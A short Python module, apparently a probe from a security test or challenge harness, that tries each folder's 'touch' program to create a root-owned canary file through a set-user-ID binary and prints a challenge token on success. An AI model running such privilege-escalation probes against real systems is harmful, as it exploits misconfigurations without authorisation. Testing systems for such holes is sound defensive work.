"""Creates a file as root, through a set-user-ID program."""

import os
import subprocess


def attack(facts: dict[str, str]) -> None:
    for folder in facts["places"].split(":"):
        canary = os.path.join(facts["canaries"], "of-root")
        for target in (canary, "of-root"):
            subprocess.run([f"{folder}/touch", target], stderr=subprocess.DEVNULL, check=False)
            if os.path.exists(target) and os.stat(target).st_uid == 0:
                print("carried", facts["challenge"])
